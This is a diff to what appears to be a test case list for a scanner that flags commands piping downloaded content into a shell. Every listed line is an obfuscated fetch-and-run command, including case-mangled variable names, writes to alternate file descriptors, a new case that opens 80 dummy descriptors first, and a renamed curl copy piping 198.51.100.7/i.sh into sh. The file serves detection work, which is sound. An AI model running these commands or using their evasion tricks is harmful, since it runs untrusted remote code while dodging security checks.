@@ -49,6 +49,9 @@ def _pipe_findings(found, rule):
     HIDE + f"timeout 5 ${{V,,}} -s {URL} | env -i ${{S,,}} -s",  # wrappers on both ends
     HIDE + "python3 -c \"import urllib.request as u; print(u.urlopen('" + URL + "').read())\" | ${S,,}",
     HIDE + f"${{V,,}} -s -m 2 -o /dev/fd/3 {URL} 3>&1 >/dev/null | ${{S,,}}",  # written on another descriptor
+    # ... behind 80 other descriptors
+    HIDE + f"for i in $(seq 10 89); do eval \"exec $i</dev/null\"; done; "
+           f"${{V,,}} -s -m 2 -o /dev/fd/90 {URL} 90>&1 >/dev/null | ${{S,,}}",
     # a renamed copy of curl, the URL without its scheme: the copy is known by its contents
     "cp /usr/bin/curl /tmp/.u; /tmp/.u -s -m 2 198.51.100.7/i.sh | sh",
     # code on the command line that runs what it reads
